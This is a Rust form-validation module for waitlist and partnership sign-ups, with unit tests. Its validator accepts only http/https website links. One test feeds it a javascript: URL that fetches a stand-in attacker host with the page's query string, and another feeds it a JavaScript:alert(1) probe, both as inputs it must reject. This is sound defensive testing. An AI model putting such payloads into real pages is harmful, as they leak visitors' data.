use crate::models::{PartnershipForm, WaitlistForm};
use serde::Serialize;

#[derive(Debug, Clone, Serialize, PartialEq, Eq)]
pub struct FieldError {
    pub field: &'static str,
    pub message: String,
}

impl FieldError {
    fn required(field: &'static str, label: &str) -> Self {
        Self {
            field,
            message: format!("{label} is required"),
        }
    }
}

struct Checker {
    errors: Vec<FieldError>,
}

impl Checker {
    fn new() -> Self {
        Self { errors: Vec::new() }
    }

    fn required(&mut self, field: &'static str, label: &str, value: &str) {
        if value.is_empty() {
            self.errors.push(FieldError::required(field, label));
        }
    }

    fn website(&mut self, value: Option<&str>) {
        if value.is_some_and(|url| !is_http_url(url)) {
            self.errors.push(FieldError {
                field: "website",
                message: "Website must start with http:// or https://".to_string(),
            });
        }
    }

    fn email(&mut self, value: &str) {
        if value.is_empty() {
            self.errors.push(FieldError::required("email", "Email"));
        } else if !is_valid_email(value) {
            self.errors.push(FieldError {
                field: "email",
                message: "Email address looks invalid".to_string(),
            });
        }
    }

    fn finish<T>(self, value: T) -> Result<T, Vec<FieldError>> {
        if self.errors.is_empty() { Ok(value) } else { Err(self.errors) }
    }
}

fn clean(value: &str) -> String {
    value.trim().to_string()
}

fn clean_opt(value: Option<&str>) -> Option<String> {
    value.map(str::trim).filter(|v| !v.is_empty()).map(str::to_string)
}

/// One `@`, a non-empty local part, and a dotted domain with no empty labels.
pub fn is_valid_email(value: &str) -> bool {
    let Some((local, domain)) = value.split_once('@') else {
        return false;
    };
    !local.is_empty()
        && !domain.contains('@')
        && !value.chars().any(char::is_whitespace)
        && domain.contains('.')
        && domain.split('.').all(|label| !label.is_empty())
}

/// Absolute `http://` or `https://` link; anything else is never rendered as a link.
pub fn is_http_url(value: &str) -> bool {
    let lower = value.trim().to_ascii_lowercase();
    ["http://", "https://"]
        .iter()
        .any(|scheme| lower.strip_prefix(scheme).is_some_and(|rest| !rest.is_empty()))
}

/// Trims every field and reports all problems at once.
pub fn validate_waitlist(form: &WaitlistForm) -> Result<WaitlistForm, Vec<FieldError>> {
    let cleaned = WaitlistForm {
        name: clean(&form.name),
        email: clean(&form.email).to_lowercase(),
        city: clean(&form.city),
        service: clean(&form.service),
        comments: clean_opt(form.comments.as_deref()),
    };

    let mut check = Checker::new();
    check.required("name", "Name", &cleaned.name);
    check.email(&cleaned.email);
    check.required("city", "City", &cleaned.city);
    check.required("service", "Service", &cleaned.service);
    check.finish(cleaned)
}

pub fn validate_partnership(form: &PartnershipForm) -> Result<PartnershipForm, Vec<FieldError>> {
    let cleaned = PartnershipForm {
        name: clean(&form.name),
        email: clean(&form.email).to_lowercase(),
        phone: clean_opt(form.phone.as_deref()),
        business_name: clean(&form.business_name),
        business_type: clean(&form.business_type),
        city: clean(&form.city),
        website: clean_opt(form.website.as_deref()),
        message: clean_opt(form.message.as_deref()),
    };

    let mut check = Checker::new();
    check.required("name", "Name", &cleaned.name);
    check.email(&cleaned.email);
    check.required("business_name", "Business name", &cleaned.business_name);
    check.required("business_type", "Business type", &cleaned.business_type);
    check.required("city", "City", &cleaned.city);
    check.website(cleaned.website.as_deref());
    check.finish(cleaned)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn waitlist_reports_every_missing_field() {
        let errors = validate_waitlist(&WaitlistForm::default()).unwrap_err();
        let fields: Vec<_> = errors.iter().map(|e| e.field).collect();
        assert_eq!(fields, vec!["name", "email", "city", "service"]);
    }

    #[test]
    fn waitlist_trims_and_normalizes() {
        let form = WaitlistForm {
            name: "  Ana  ".into(),
            email: " Ana@Example.COM ".into(),
            city: "Austin".into(),
            service: "Hair".into(),
            comments: Some("   ".into()),
        };
        let cleaned = validate_waitlist(&form).unwrap();
        assert_eq!(cleaned.name, "Ana");
        assert_eq!(cleaned.email, "ana@example.com");
        assert_eq!(cleaned.comments, None);
    }

    #[test]
    fn partnership_requires_business_fields() {
        let form = PartnershipForm {
            name: "Lee".into(),
            email: "lee@studio.io".into(),
            ..Default::default()
        };
        let errors = validate_partnership(&form).unwrap_err();
        let fields: Vec<_> = errors.iter().map(|e| e.field).collect();
        assert_eq!(fields, vec!["business_name", "business_type", "city"]);
    }

    #[test]
    fn email_shapes() {
        assert!(is_valid_email("a@b.co"));
        assert!(is_valid_email("first.last@mail.example.org"));
        assert!(!is_valid_email("no-at-sign"));
        assert!(!is_valid_email("@b.co"));
        assert!(!is_valid_email("a@b"));
        assert!(!is_valid_email("a@.co"));
        assert!(!is_valid_email("a@@b.co"));
        assert!(!is_valid_email("a b@c.co"));
        assert!(!is_valid_email("a@b..co"));
        assert!(!is_valid_email("a@b.co."));
    }

    #[test]
    fn partnership_website_must_be_http() {
        let mut form = PartnershipForm {
            name: "Lee".into(),
            email: "lee@studio.io".into(),
            business_name: "Lee Cuts".into(),
            business_type: "Barber".into(),
            city: "Denver".into(),
            website: Some("javascript:fetch('//evil.io/?'+location.search)".into()),
            ..Default::default()
        };
        let errors = validate_partnership(&form).unwrap_err();
        let fields: Vec<_> = errors.iter().map(|e| e.field).collect();
        assert_eq!(fields, vec!["website"]);

        form.website = Some(" https://leecuts.io ".into());
        let cleaned = validate_partnership(&form).unwrap();
        assert_eq!(cleaned.website.as_deref(), Some("https://leecuts.io"));

        form.website = Some("   ".into());
        assert_eq!(validate_partnership(&form).unwrap().website, None);
    }

    #[test]
    fn http_url_shapes() {
        assert!(is_http_url("https://leecuts.io"));
        assert!(is_http_url("HTTP://example.com/path"));
        assert!(!is_http_url("https://"));
        assert!(!is_http_url("JavaScript:alert(1)"));
        assert!(!is_http_url("leecuts.io"));
    }
}
